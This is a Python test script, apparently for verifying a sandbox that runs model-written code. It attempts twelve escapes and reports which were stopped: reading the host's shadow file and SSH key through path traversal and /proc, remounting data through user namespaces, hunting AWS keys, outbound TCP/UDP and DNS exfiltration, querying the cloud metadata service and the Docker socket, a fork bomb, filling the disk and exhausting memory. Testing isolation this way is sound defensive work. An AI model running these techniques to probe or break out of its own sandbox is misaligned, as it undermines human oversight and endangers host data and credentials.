"""Tries twelve things that no script of a model should be able to do, and says
what stopped each. Every line reports an attempt that was really made; one that
succeeds says ESCAPED, and the exit code is 1.

It is told a few facts about the machine that it runs on, to know success when
it meets it; run.sh sets them:

    HOST_FILE      a file on the host, readable only by its owner
    HOST_FILE_SUM  SHA-256 of what is in it
    HOST_SHADOW    size-mtime of the host's /etc/shadow
    HOST_PROCS     number of processes on the host
    HOST_KERNEL    release of the host's kernel
    HOST_CANARY    SHA-256 of a secret in the caller's environment
"""
import ctypes
import errno
import glob
import hashlib
import os
import platform
import signal
import socket
import stat
import sys

DATA = "/data/refunds.csv"
libc = ctypes.CDLL(None, use_errno=True)
FINIT_MODULE = {"x86_64": 313, "aarch64": 273}
MS_REMOUNT, MS_BIND, CLONE_NEWNS, CLONE_NEWUSER = 32, 4096, 0x00020000, 0x10000000


class Escaped(Exception):
    """An attempt that succeeded."""


def name(e):
    return errno.errorcode.get(e.errno or 0, type(e).__name__)


def refused(*attempts):
    """Makes every attempt; all must fail. Returns what they failed with."""
    seen = []
    for what, attempt in attempts:
        try:
            attempt()
        except OSError as e:
            seen.append(f"{what} {name(e)}")
        else:
            raise Escaped(f"{what} worked")
    return ", ".join(seen)


def call(function, *args):
    if function(*args) == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


def password_hashes():
    st = os.stat("/etc/shadow")
    if f"{st.st_size}-{int(st.st_mtime)}" == os.environ.get("HOST_SHADOW"):
        raise Escaped("this is the host's /etc/shadow")
    fields = [line.split(b":") for line in read("/etc/shadow").splitlines()]
    if any(len(f) > 1 and f[1].startswith(b"$") for f in fields):
        raise Escaped("found a password hash")
    return f"/etc/shadow here is the image's: {len(fields)} accounts, no password"


def host_file():
    path, want = os.environ.get("HOST_FILE", "/root/.ssh/id_ed25519"), os.environ.get("HOST_FILE_SUM")
    up = "../" * 40
    ways = [path, up + path]
    for root in glob.glob("/proc/[0-9]*"):
        ways += [f"{root}/root{path}", f"{root}/cwd/{up}{path}"]
        ways += [f"{fd}/{up}{path}" for fd in glob.glob(root + "/fd/*")]
    why = set()
    for way in ways:
        try:
            data = read(way)
        except OSError as e:
            why.add(name(e))
            continue
        if want is None or sha256(data) == want:
            raise Escaped(f"read {way}")
    return f"{len(ways)} ways (.., /proc/*/root, descriptors): {', '.join(sorted(why))}"


def change_data():
    def unshare_and_remount():
        call(libc.unshare, CLONE_NEWUSER | CLONE_NEWNS)
        call(libc.mount, None, DATA.encode(), None, MS_REMOUNT | MS_BIND, None)

    return refused(
        ("write", lambda: open(DATA, "ab").close()),
        ("delete", lambda: os.remove(DATA)),
        ("remount rw", lambda: call(libc.mount, None, DATA.encode(), None, MS_REMOUNT | MS_BIND, None)),
        ("own namespace", unshare_and_remount),
    )


def cloud_keys():
    places = [("environ", b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            places.append((path, read(path)))
        except OSError:
            pass  # not ours to read, which is the point
    for where, data in places:
        if b"AWS_" in data or any(sha256(v.split(b"=", 1)[-1]) == os.environ.get("HOST_CANARY") for v in data.split(b"\0")):
            raise Escaped(f"found the caller's AWS_SECRET_ACCESS_KEY in {where}")
    return f"the caller's AWS_SECRET_ACCESS_KEY is in none of {len(places)} places"


# Errors that come before any packet could leave. Anything else, a refusal by
# the other side or its silence included, means that one did.
UNSENT = {errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT, errno.EPERM, errno.EACCES}


def connect(address, port, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as s:
        s.settimeout(2)
        try:
            s.connect((address, port))
            s.send(b"secret")
        except OSError as e:
            if e.errno not in UNSENT:
                raise Escaped(f"a packet went to {address}: {name(e)}") from e
            raise


def internet():
    return refused(
        ("TCP", lambda: connect("1.1.1.1", 443)),
        ("UDP", lambda: connect("1.1.1.1", 443, socket.SOCK_DGRAM)),
        ("IPv6", lambda: connect("2606:4700:4700::1111", 443)),
    )


def dns():
    # A lookup carries data out even when no connection ever could.
    def lookup():
        socket.getaddrinfo("c2VjcmV0.example.com", 80)

    try:
        lookup()
    except socket.gaierror as e:
        first = f"lookup: {e.strerror.lower()}"
    else:
        raise Escaped("a name was resolved")
    return first + ", " + refused(("8.8.8.8:53", lambda: connect("8.8.8.8", 53, socket.SOCK_DGRAM)))


def metadata():
    return refused(
        ("IPv4", lambda: connect("169.254.169.254", 80)),
        ("IPv6", lambda: connect("fd00:ec2::254", 80)),
        ("engine at 172.17.0.1", lambda: connect("172.17.0.1", 2375)),
    )


def processes():
    seen = [p for p in os.listdir("/proc") if p.isdigit()]
    host = int(os.environ.get("HOST_PROCS", "0"))
    if host and len(seen) >= host:
        raise Escaped(f"{len(seen)} processes are visible")
    stopped = refused(
        ("kill PID 1", lambda: os.kill(1, signal.SIGKILL)),
        ("trace it", lambda: call(libc.ptrace, 16, 1, None, None)),
    )
    return f"{len(seen)} processes here, {host} on the host; {stopped}"


def kernel():
    def disk():
        os.mknod("/tmp/sda", stat.S_IFBLK | 0o600, os.makedev(8, 0))
        read("/tmp/sda", 512)

    if platform.release() == os.environ.get("HOST_KERNEL"):
        raise Escaped("it talks to the host's own kernel")
    nr = FINIT_MODULE.get(platform.machine(), -1)
    return refused(
        ("load a module", lambda: call(libc.syscall, nr, 0, b"", 0)),
        ("/dev/mem", lambda: read("/dev/mem", 1)),
        ("raw disk", disk),
    ) + f"; its kernel: {platform.release()}"


def fork_bomb():
    children = []
    try:
        while len(children) < 5000:
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children.append(pid)
        raise Escaped(f"{len(children)} processes at once")
    except OSError as e:
        return f"fork number {len(children) + 1}: {name(e)}"
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)


def fill_disk():
    written, chunk = 0, b"\xaa" * (1 << 20)
    try:
        with open("/tmp/fill", "wb", buffering=0) as f:
            while written < 4 << 30:
                written += f.write(chunk)
        raise Escaped(f"wrote {written >> 20} MiB")
    except OSError as e:
        return f"after {written >> 20} MiB: {name(e)}"
    finally:
        os.remove("/tmp/fill")


def eat_memory():
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        hoard = []
        while len(hoard) < 4096:
            hoard.append(os.urandom(1 << 20))  # at the pace of real work
            os.write(w, b".")
        os._exit(0)
    os.close(w)
    got = 0
    while part := os.read(r, 4096):
        got += len(part)
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if not os.WIFSIGNALED(status) and got >= 4096:
        raise Escaped("took 4 GiB")
    how = f"killed by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else "out of memory"
    return f"the process was {how} after {got} MiB; this one lives"


ATTEMPTS = [
    ("steal password hashes", password_hashes),
    ("read a file of the host", host_file),
    ("change the data it was given", change_data),
    ("find cloud keys", cloud_keys),
    ("send data to the internet", internet),
    ("smuggle data out by DNS", dns),
    ("ask the cloud metadata service", metadata),
    ("kill other processes", processes),
    ("get at kernel and devices", kernel),
    ("fork bomb", fork_bomb),
    ("fill the disk", fill_disk),
    ("eat all memory", eat_memory),
]


def main():
    escaped = 0
    for i, (title, attempt) in enumerate(ATTEMPTS, 1):
        try:
            verdict, what = "stopped", attempt()
        except Escaped as e:
            verdict, what = "ESCAPED", str(e)
            escaped += 1
        except OSError as e:
            verdict, what = "stopped", f"{name(e)}: {e.filename or e.strerror}"
        print(f"{i:>3}  {verdict}  {title:<31} {what}", flush=True)
    sys.exit(1 if escaped else 0)


if __name__ == "__main__":
    main()
